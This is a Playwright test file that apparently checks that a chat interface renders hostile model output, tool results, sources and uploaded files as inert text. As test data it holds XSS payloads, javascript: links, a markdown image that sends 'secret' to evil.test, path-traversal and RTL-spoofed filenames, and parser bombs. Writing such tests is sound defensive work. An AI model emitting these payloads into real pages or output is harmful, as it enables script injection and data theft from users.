"""Hostile model output, file names and files in a browser: inert, and nothing leaves the page (F45)."""

from pathlib import Path
from typing import Literal

import pytest
from playwright.async_api import Browser, expect

from page.browsing import answers, ask, card, is_over, page_server, tab
from page.scenes import scripted
from requirements import requirement
from sidestream import tool
from sidestream.parts import File, ReasoningDelta, ReasoningEnd, ReasoningStart, Source
from sidestream.testing import tool_call

pytestmark = pytest.mark.asyncio(loop_scope="session")

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.opener.hacked = 1; hacked = 1</script></svg>'
HTML = b"<!doctype html><script>top.hacked = 1</script>"
HOSTILE = """\
<img src=x onerror="hacked=1"> <script>hacked=1</script> <iframe src="https://evil.test/frame"></iframe>

<svg onload=hacked=1></svg>

![stolen](https://evil.test/steal.png?data=secret) and ![local](/api/keys) and ![bytes](data:image/svg+xml;base64,AAAA)

[run](javascript:hacked=1) [data](data:text/html,<script>hacked=1</script>) [file](file:///etc/passwd)
[https://bank.test](https://evil.test/login) [good](https://good.test/page)
[long](https://evil.test/?q=LONG)

<style>body { display: none }</style>

[ref]: javascript:hacked=1

[ref] and `<b onmouseover=hacked=1>` and \u202eeht txet\u202c.

| <img src=x onerror=hacked=1> | [cell](vbscript:x) |
|---|---|
| <a href="javascript:hacked=1">x</a> | **bold** |
""".replace("LONG", "x" * 300)
DEEP = ">" * 3000 + " deep\n\n" + "_a_" * 20_000


@requirement("F45", "R144")
async def test_hostile_markdown_links_and_images_are_text(chromium: Browser, tmp_path: Path):
    async with page_server({"main": scripted([HOSTILE])}, tmp_path) as (_, origin), tab(chromium, origin) as page:
        await ask(page, "Attack me.")
        await is_over(page)
        text = answers(page).locator(".markdown")
        await expect(text).to_contain_text('<img src=x onerror="hacked=1">')
        assert await text.locator("img, script, iframe, svg:not(.icon), style, object, embed, form").count() == 0
        hrefs = await text.locator("a").evaluate_all("links => links.map(link => link.href)")
        assert {href.partition("?")[0] for href in hrefs} == {
            "https://evil.test/login",
            "https://good.test/page",
            "https://evil.test/",
        }
        for link in await text.locator("a").all():
            assert await link.get_attribute("rel") == "noopener noreferrer"
        # A link whose text names another host says where it leads; one that carries a lot asks first.
        await expect(text).to_contain_text("https://bank.test (evil.test)")
        await expect(text).to_contain_text("Image from evil.test, not loaded: stolen")
        buttons: tuple[Literal["left", "middle"], ...] = ("left", "middle")
        for button in buttons:
            await text.get_by_role("link", name="long").click(button=button)
            await expect(page.get_by_role("dialog")).to_contain_text("https://evil.test/?q=xxx")
            await page.get_by_role("button", name="Cancel").click()
        assert await page.evaluate("window.hacked") is None
        assert len(page.context.pages) == 1


@requirement("F45")
async def test_parser_bombs_are_shown_in_time(chromium: Browser, tmp_path: Path):
    formulas = "\n\n".join(rf"$x_{{{number}}}^2 + \frac{{1}}{{{number}}}$ " * 200 for number in range(30))
    replies = [DEEP, formulas]
    async with page_server({"main": scripted(replies)}, tmp_path) as (_, origin), tab(chromium, origin) as page:
        await ask(page, "Freeze.")
        await is_over(page)
        await expect(answers(page)).to_contain_text("deep")
        await expect(answers(page)).to_contain_text("_a__a_")
        await ask(page, "Count.")
        await is_over(page)
        await expect(answers(page).last).to_contain_text(r"$x_{29}^2 + \frac{1}{29}$")
        await expect(answers(page).last.locator("math").first).to_be_visible()


@requirement("F45", "R144")
async def test_hostile_calls_sources_and_reasoning_are_text(chromium: Browser, tmp_path: Path):
    attack = "<img src=x onerror=hacked=1>"

    @tool
    def search(query: str) -> str:
        """Searches."""
        return f"{attack}\x1b[2J\u202e {query}"

    last = [
        ReasoningStart("r1"),
        ReasoningDelta("r1", attack),
        ReasoningEnd("r1"),
        "Done.",
        Source("s1", "url", url="javascript:hacked=1", title=attack),
        Source("s2", "url", url="https://good.test/", title="Good"),
    ]
    agent = scripted([tool_call("search", query=attack), last], tools=[search])
    async with page_server({"main": agent}, tmp_path) as (_, origin), tab(chromium, origin) as page:
        await ask(page, attack)
        await is_over(page)
        await card(page, "search").locator(".card-head").click()
        await expect(card(page, "search")).to_contain_text(attack)
        await card(page, "Thought").locator(".card-head").click()
        await page.get_by_role("button", name="2 pages read").click()
        assert await page.locator(".inspector a").evaluate_all("links => links.map(link => link.href)") == [
            "https://good.test/"
        ]
        await page.get_by_role("link", name="Timeline").last.click()
        await expect(page.locator(".tl-row").filter(has_text="search").first).to_be_visible()
        assert await page.locator(".message img, .tl img").count() == 0
        assert await page.evaluate("window.hacked") is None


@requirement("F45", "R144")
async def test_hostile_files_are_downloaded_and_never_shown(chromium: Browser, tmp_path: Path):
    files = [
        File("f1", "image/svg+xml", name="picture.svg", data=SVG),
        File("f2", "image/png", name="../../etc/passwd\u202egnp.png", data=HTML),
        File("f3", "text/html", name='"><script>hacked=1</script>.html', data=HTML),
    ]
    agent = scripted([["Files.", *files]])
    async with page_server({"main": agent}, tmp_path) as (_, origin), tab(chromium, origin) as page:
        await ask(page, "Files, please.")
        await is_over(page)
        tiles = answers(page).locator("figure.file")
        await expect(tiles).to_have_count(3)
        await expect(tiles.nth(2)).to_contain_text('"><script>hacked=1</script>.html')
        # What says that it is a PNG and is not one cannot be shown; the page says so.
        await tiles.nth(1).scroll_into_view_if_needed()
        await expect(tiles.nth(1)).to_contain_text("could not be loaded")
        for tile in await tiles.all():
            async with page.expect_download() as download:
                await tile.get_by_role("link", name="Download").click()
            name = (await download.value).suggested_filename
            assert "/" not in name
            assert not name.startswith(".")
        # Opened directly, a file is still no document of this origin.
        address = await tiles.first.get_by_role("link", name="Download").get_attribute("href")
        response = await page.request.get(f"{origin}{address}")
        assert response.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in response.headers["content-security-policy"]
        assert await page.evaluate("window.hacked") is None
